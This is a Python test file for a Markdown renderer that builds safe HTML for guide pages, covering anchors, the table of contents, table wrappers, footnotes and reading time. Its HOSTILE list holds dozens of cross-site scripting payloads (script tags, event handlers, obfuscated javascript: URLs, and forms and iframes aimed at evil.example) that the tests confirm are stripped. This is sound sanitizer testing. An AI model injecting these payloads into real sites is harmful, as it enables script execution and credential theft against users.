"""Markdown is rendered once into safe HTML: headings with anchors, a table of contents,
scrolling tables, footnotes; nothing an editor types can run in a reader's browser."""

import re
from html.parser import HTMLParser

import pytest

from guides.markdown import (
    ALLOWED_ATTRIBUTES,
    ALLOWED_SCHEMES,
    ALLOWED_TAGS,
    plain_text,
    reading_minutes,
    render,
)

GUIDE = """\
Opening paragraph with a claim.[^1]

## Where it starts

Text.

### A smaller step

| Measure | Target |
|---|---|
| OEE | 85% |

## S&OP and <em>planning</em>

More text.

[^1]: The source, 2024.
"""


def test_headings_get_anchors_and_the_table_of_contents_nests_h3_under_h2():
    rendered = render(GUIDE)
    assert '<h2 id="where-it-starts">Where it starts</h2>' in rendered.html
    assert '<h3 id="a-smaller-step">A smaller step</h3>' in rendered.html
    assert [item["id"] for item in rendered.toc] == ["where-it-starts", "sop-and-planning"]
    first, second = rendered.toc
    assert first["level"] == 2 and first["children"][0]["id"] == "a-smaller-step"
    assert first["children"][0]["level"] == 3
    assert second["name"] == "S&OP and planning"  # plain text; the template escapes it


def test_a_stray_h1_is_demoted_to_h2_under_the_page_title():
    html = render("# Big heading\n\ntext").html
    assert "<h1" not in html and "<h2" in html


def test_each_table_is_wrapped_in_a_focusable_box_that_scrolls():
    html = render(GUIDE).html
    assert re.search(
        r'<div class="table-scroll" role="region" tabindex="0" aria-label="Table[^"]*"><table>',
        html,
    )
    assert "</table></div>" in html
    assert html.count("table-scroll") == html.count("<table") == 1


def test_footnotes_link_to_their_note_and_back():
    html = render(GUIDE).html
    assert '<a class="footnote-ref" href="#fn:1"' in html
    assert '<li id="fn:1">' in html
    assert 'class="footnote-backref" href="#fnref:1"' in html
    assert '<sup id="fnref:1">' in html


def test_reading_time_is_words_over_220_a_minute_and_at_least_one():
    assert reading_minutes("") == 1
    assert reading_minutes("word " * 100) == 1
    assert reading_minutes("word " * 1100) == 5


def test_plain_text_keeps_the_words_and_drops_markup_links_and_footnote_markers():
    text = plain_text(render(GUIDE + "\nSee [the role](/roles/inventory-analyst/).").html)
    assert "Opening paragraph with a claim. Where it starts" in text
    assert "S&OP and planning" in text
    assert "/roles/" not in text and "↩" not in text and "claim.1" not in text
    assert "the role." in text


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    '<a href="#" onclick="alert(1)">click</a>',
    "<p onmouseover=alert(1)>hover</p>",
    '<a href="javascript:alert(1)">js link</a>',
    '<a href="JaVaScRiPt:alert(1)">mixed case</a>',
    '<a href="jav&#x09;ascript:alert(1)">entity tab</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">entities</a>',
    '<a href="  javascript:alert(1)">leading spaces</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>',
    '<a href="vbscript:msgbox(1)">vbscript</a>',
    "[markdown link](javascript:alert(1))",
    "[spaced](javascript&#58;alert(1))",
    "![image](javascript:alert(1))",
    '<iframe src="https://evil.example"></iframe>',
    "<style>body { display: none }</style>",
    '<p style="position:fixed;top:0">styled</p>',
    '<span style="background:url(javascript:alert(1))">bg</span>',
    "<svg onload=alert(1)><circle r=10></circle></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<object data="evil.swf"></object><embed src="evil.swf">',
    '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    '<div id="x" class="y" title="t" data-x="1" hidden tabindex="1">attrs</div>',
    "<!-- <script>alert(1)</script> -->",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '"><script>alert(1)</script>',
    "## Heading <script>alert(1)</script>\n\ntext",
    "## Heading {: onclick=alert(1) }\n\ntext",
    'Paragraph {: style="color:red" }',
    "`<script>alert(1)</script>` in code is shown, not run",
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
]


class _Inventory(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def _scheme(url: str) -> str | None:
    cleaned = "".join(ch for ch in url if ch.isprintable() and not ch.isspace()).lower()
    head = cleaned.split("/", 1)[0].split("?", 1)[0].split("#", 1)[0]
    return head.split(":", 1)[0] if ":" in head else None


def test_the_hostile_list_is_long_enough():
    assert len(HOSTILE) >= 12


@pytest.mark.parametrize("source", HOSTILE)
def test_nothing_an_editor_types_survives_that_a_browser_could_run(source):
    html = render(source).html
    inventory = _Inventory()
    inventory.feed(html)
    wrapper = {"class", "role", "tabindex", "aria-label"}  # the table-scroll box we add
    for tag, attrs in inventory.tags:
        assert tag in ALLOWED_TAGS, (tag, html)
        allowed = ALLOWED_ATTRIBUTES["*"] | ALLOWED_ATTRIBUTES.get(tag, set())
        if tag == "a":
            allowed = allowed | {"rel"}  # nh3 adds rel="noopener noreferrer"
        if tag == "div" and attrs.get("class") == "table-scroll":
            allowed = allowed | wrapper
        for name, value in attrs.items():
            assert name in allowed, (tag, name, html)
            assert not name.startswith("on") and name != "style", (tag, name)
            if name == "href":
                assert _scheme(value or "") in ALLOWED_SCHEMES | {None}, (value, html)
    lowered = html.lower()
    for marker in (
        "<script",
        "<iframe",
        "<style",
        "<svg",
        "<img",
        "<object",
        "<embed",
        "<form",
        "<meta",
        "<base",
        "<link",
        "javascript:",
        "vbscript:",
        "data:",
        "style=",
        "onerror",
        "onclick",
        "onload",
        "ontoggle",
        "onmouseover",
    ):
        # Words may survive as escaped text (e.g. in a code span) but never as markup.
        assert marker not in _markup_only(lowered), (marker, html)


def _markup_only(html: str) -> str:
    """The tags of the HTML without the text between them."""
    return " ".join(part.split(">", 1)[0] for part in html.split("<")[1:])


def test_code_spans_show_markup_as_text():
    html = render("`<script>alert(1)</script>`").html
    assert "<code>&lt;script&gt;alert(1)&lt;/script&gt;</code>" in html


def test_safe_links_keep_their_address_and_gain_rel_noopener():
    html = render("[CPIM](/certifications/cpim/) and [BLS](https://www.bls.gov/ooh/)").html
    assert '<a href="/certifications/cpim/" rel="noopener noreferrer">CPIM</a>' in html
    assert '<a href="https://www.bls.gov/ooh/" rel="noopener noreferrer">BLS</a>' in html


def test_each_table_region_is_named_after_its_heading_so_no_two_share_a_name():
    table = "|a|b|\n|-|-|\n|1|2|\n\n"
    text = f"## Costs & fees\n\n{table}{table}## Dates\n\n{table}"
    labels = re.findall(r'role="region" tabindex="0" aria-label="([^"]+)"', render(text).html)
    assert labels == ["Table: Costs &amp; fees", "Table: Costs &amp; fees (2)", "Table: Dates"]
